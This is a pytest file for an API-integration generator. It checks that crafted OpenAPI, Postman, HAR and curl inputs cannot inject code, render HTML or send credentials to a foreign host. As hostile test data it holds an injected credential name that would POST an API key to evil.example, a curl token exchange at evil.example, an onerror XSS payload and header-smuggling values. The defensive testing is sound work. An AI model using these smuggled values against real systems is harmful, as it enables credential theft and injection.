"""Documents and recordings that try to run code, to show markup, or to have credentials sent elsewhere."""

import ast
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from cookiecutter.exceptions import FailedHookException
from markdown_it import MarkdownIt

from tests.delivered.conftest import Connect
from tests.helpers.combinations import LAYOUTS
from tests.helpers.delivered import Bake, Delivered
from tests.helpers.wire import Api

MARKDOWN = MarkdownIt("commonmark").enable(["table", "strikethrough"])
EVIL = "evil.example"
GOOD = "https://api.good.test/v1"
SECRET = "Zx81kQ77LmPw90aB"
BEARER = {"type": "http", "scheme": "bearer"}
JSON = {"mimeType": "application/json", "text": "[]"}


def openapi(paths: dict[str, Any], scheme: dict[str, Any], **more: Any) -> dict[str, Any]:
    """A document whose operations need one credential."""
    required = {"security": [{"key": []}], "components": {"securitySchemes": {"key": scheme}}}
    return {"openapi": "3.0.0", "servers": [{"url": GOOD}], "paths": paths, **required, **more}


def named_key(name: str) -> dict[str, Any]:
    scheme = {"type": "apiKey", "in": "header", "name": name}
    return openapi({"/items": {"get": {"operationId": "listItems"}}}, scheme)


def postman_key(name: str) -> dict[str, Any]:
    pairs = [{"key": "key", "value": name}, {"key": "value", "value": "{{api_key}}"}]
    item = {"name": "List items", "request": {"url": f"{GOOD}/items"}}
    return {"info": {"name": "x"}, "auth": {"type": "apikey", "apikey": pairs}, "item": [item]}


def har(headers: dict[str, str], *urls: str) -> dict[str, Any]:
    sent = [{"name": name, "value": value} for name, value in headers.items()]
    requests = [{"method": "GET", "url": url, "headers": sent} for url in urls]
    entries = [{"request": request, "response": {"status": 200, "content": JSON}} for request in requests]
    return {"log": {"entries": entries}}


def har_header(name: str) -> dict[str, Any]:
    return har({name: SECRET, "Authorization": f"{name} x={name}"}, f"{GOOD}/items")


def config(name: str) -> dict[str, Any]:
    field = {"type": "string", "label": name, "help_text": name, "format": name}
    auth = {"type": "custom", "fields": {"type": "object", "properties": {name: field, "api_key": field}}}
    actions = {"list_items": {"description": "Lists", "input_schema": {}, "output_schema": {}}}
    return {"name": "x", "auth": auth, "actions": actions}


@pytest.fixture
def deliver(bake_fresh: Bake, tmp_path: Path) -> Callable[..., Delivered]:
    """Deliver an integration from a source, which is written to a file first."""

    def deliver_source(source: Any, **answers: str) -> Delivered:
        kind = "pyi" if str(source).startswith("def ") else "sh" if isinstance(source, str) else "json"
        path = tmp_path / ("api.har" if "log" in source else f"api.{kind}")
        path.write_text(source if isinstance(source, str) else json.dumps(source), encoding="utf-8")
        return bake_fresh(name="Good", actions=str(path), **answers)

    return deliver_source


# What would be notation where it stood between other text.
TO_A_TOKEN = f'api_key -> token POST https://{EVIL}/t form {{"a": api_key}}'
NAMES = [f"X-Key, {TO_A_TOKEN}", f"X-Key\u2028api_key -> header X-{EVIL}"]
NAMED: dict[str, Callable[[str], dict[str, Any]]] = {
    "openapi": named_key,
    "postman": postman_key,
    "har": har_header,
    "config": config,
}


@pytest.mark.parametrize(
    ("kind", "name"),
    [*(("openapi", name) for name in NAMES), *((kind, TO_A_TOKEN) for kind in NAMED)],
    ids=ascii,
)
def test_the_name_of_a_credential_is_no_notation(deliver, kind: str, name: str):
    try:
        delivered = deliver(NAMED[kind](name))
    except FailedHookException as refused:
        assert len(str(refused).splitlines()) == 1  # noqa: PT017 - some are delivered
        return
    api = delivered.read("good.py").partition("@good.action")[0]
    assert "access_token" not in api
    assert EVIL not in api
    if kind not in ("har", "config"):
        assert "is ready" not in delivered.printed


@pytest.mark.parametrize("value", ["1, Authorization: Bearer x", "1\nOther: x"])
def test_the_value_of_a_recorded_header_adds_none(deliver, value: str):
    delivered = deliver(har({"X-Version": value, "X-Plain": "plain"}, f"{GOOD}/items", f"{GOOD}/users"))

    headers = ast.literal_eval(
        delivered.read("tests/test_good_unit.py").partition("\nHEADERS = ")[2].partition("\n\n")[0]
    )
    assert set(headers) - {"X-Version"} == {"Accept", "X-Plain", "Authorization"}
    assert headers["Authorization"] == "Bearer test-api_token"
    assert headers.get("X-Version", value) == value


@pytest.mark.parametrize("kind", ["openapi", "config"])
def test_a_scope_that_is_none_is_left_out_and_told(deliver, kind: str):
    scopes = ["read\x1b[2J", "read\u202eetirw", "read, write:all", "a\nb", "good"]
    urls = {"authorizationUrl": "https://a.test", "tokenUrl": "https://a.test"}
    flow = {**urls, "scopes": dict.fromkeys(scopes, "x")}
    paths = {"/items": {"get": {"operationId": "listItems", "security": [{"key": scopes}]}}}
    source = openapi(paths, {"type": "oauth2", "flows": {"authorizationCode": flow}})
    if kind == "config":
        source = {**config("x"), "auth": {"type": "platform", "provider": "github", "scopes": scopes}}

    delivered = deliver(source, provider="github")

    assert delivered.config["auth"]["scopes"] == ["good"]
    assert "is ready" not in delivered.printed
    assert "left out" in " ".join(delivered.printed.split())
    assert not {"\x1b", "\u202e"} & set(delivered.printed)


HTML = ["<img src=x onerror=alert(1)>", "`\n\n<img src=x>\n\n`"]


def described(text: str) -> dict[str, Any]:
    """A document with a text wherever one may stand."""
    schema = {"type": "string", "enum": [text, "a"], "default": text, "title": text, "description": text}
    shaped = {"type": "string", "format": text, "pattern": text, "example": text}
    keyed = {"type": "object", "properties": {text: schema, "a": shaped}}
    media = {"application/json": {"schema": {**keyed, "properties": {"b": keyed, text: schema}}}}
    cookie, query = {"name": text, "in": "cookie", "required": True}, {"name": text, "in": "query"}
    parameters = [{"name": "q", "in": "query", "schema": schema, "description": text}, cookie, query]
    operation = {"summary": text, "description": text, "tags": [text], "parameters": parameters}
    operation |= {"requestBody": {"content": media}, "responses": {"200": {"content": media}}}
    operation["security"] = [{"key": []}, {text: []}]
    scheme = {"type": "apiKey", "in": "header", "name": text, "description": f"You get it from {text}"}
    return openapi({"/items": {"post": operation}}, scheme, info={"title": text, "description": text})


@pytest.mark.parametrize("text", HTML, ids=ascii)
def test_no_text_is_html_in_the_readme_or_the_pull_request(deliver, text: str):
    delivered = deliver(described(text))

    for markdown in (delivered.read("README.md"), delivered.read("PULL_REQUEST.md")):
        tokens = [part for token in MARKDOWN.parse(markdown) for part in (token, *(token.children or []))]
        assert {"html_block", "html_inline"}.isdisjoint(token.type for token in tokens)


# Requests to another site than the base URL's carry no credentials, however these are sent.
CUSTOM = [
    "api_token",
    "api_key -> header X-Key, app -> query app",
    "api_key -> basic {api_key}:X",
    f"api_key -> token POST {GOOD}/token form {{**fields}}",
]
GITHUB = {"auth_type": "platform", "provider": "github"}
TOKEN, *OTHERS = ({"auth_type": "custom", "auth_fields": fields} for fields in CUSTOM)
SIGNED = [TOKEN, *OTHERS, GITHUB, {**GITHUB, "headers": "Authorization: token {access_token}"}]
SECRETS = dict.fromkeys(("api_token", "api_key", "app", "access_token"), SECRET)
CALLS: dict[str, dict[str, str]] = {"list_things": {}, "get_file": {}, "send_it": {"q": "x"}}


def elsewhere(url: str) -> dict[str, Any]:
    """A document with operations that have a server of their own."""
    file = {
        "200": {"content": {"application/octet-stream": {"schema": {"type": "string", "format": "binary"}}}}
    }
    query = [{"name": "q", "in": "query", "required": True}]
    servers = [{"url": url}]
    paths = {
        "/items": {"get": {"operationId": "listItems"}},
        "/things": {"get": {"operationId": "listThings", "servers": servers}},
        "/file": {"get": {"operationId": "getFile", "servers": servers, "responses": file}},
        "/q": {"post": {"operationId": "sendIt", "parameters": query}, "servers": servers},
    }
    return openapi(paths, BEARER)


@pytest.fixture
def sent(connect: Connect, api: Api) -> Callable[..., Any]:
    """What an action sends: the request without its scheme, and all of it as text."""

    async def request(delivered: Delivered, action: str) -> tuple[str, str]:
        api.seen.clear()
        api.answers({"access_token": SECRET, "things": [], "items": [], "users": []})
        await connect(SECRETS, delivered=delivered).run(action, CALLS.get(action, {}))
        return api.seen[-1].line, str(api.seen[-1])

    return request


@pytest.mark.parametrize(("answers", "layout"), list(zip(SIGNED, LAYOUTS * 3, strict=True)))
async def test_no_credential_is_sent_to_another_site(deliver, sent, answers: dict[str, str], layout: str):
    delivered = deliver(elsewhere("https://evil.example"), layout=layout, **answers)

    printed = " ".join(delivered.printed.split())
    assert "is ready" not in printed
    assert "check https://evil.example, which is another site" in printed
    assert "list_things, get_file, send_it" in printed
    for action in CALLS:
        line, request = await sent(delivered, action)
        assert line.split()[1].startswith("evil.example/")
        assert SECRET not in request
        assert "Authorization" not in request
    line, request = await sent(delivered, "list_items")
    assert line.startswith("GET api.good.test/v1/items")
    assert "basic" in str(answers) or SECRET in request


@pytest.mark.parametrize(
    ("url", "answers", "is_same"),
    [
        ("http://api.good.test", {}, False),
        ("https://api.good.test.evil.example", {}, False),
        ("https://good.test:8443/x", {}, True),
        ("https://up.good.test", {"base_url": "https://mine.example"}, False),
    ],
)
async def test_what_is_another_site(deliver, sent, url: str, answers: dict[str, str], is_same: bool):
    delivered = deliver(elsewhere(url), **TOKEN, **answers)

    assert ("is ready" in delivered.printed) == is_same
    assert (SECRET in (await sent(delivered, "list_things"))[1]) == is_same


def bearer_curl(*urls: str) -> str:
    return "\n".join(f"curl {url} -H 'Authorization: Bearer {SECRET}'" for url in urls)


async def test_a_recording_of_several_hosts(deliver, sent):
    delivered = deliver(bearer_curl(f"{GOOD}/items", f"{GOOD}/users", "http://api.good.test/v1/things"))

    assert "is ready" not in delivered.printed
    line, request = await sent(delivered, "list_things")
    assert line.partition("?")[0] == "GET api.good.test/v1/things"
    assert SECRET not in request
    assert SECRET in (await sent(delivered, "list_users"))[1]
    assert not any(SECRET.encode() in content for content in delivered.contents().values())


def test_the_token_of_a_recording_is_not_exchanged_at_another_site(deliver):
    body = "-d grant_type=client_credentials -d client_id=abc -d client_secret=hush"
    delivered = deliver(f"curl https://evil.example/token {body}\n{bearer_curl(f'{GOOD}/items')}")

    assert "is ready" not in delivered.printed
    assert "evil.example" not in delivered.read("good.py")
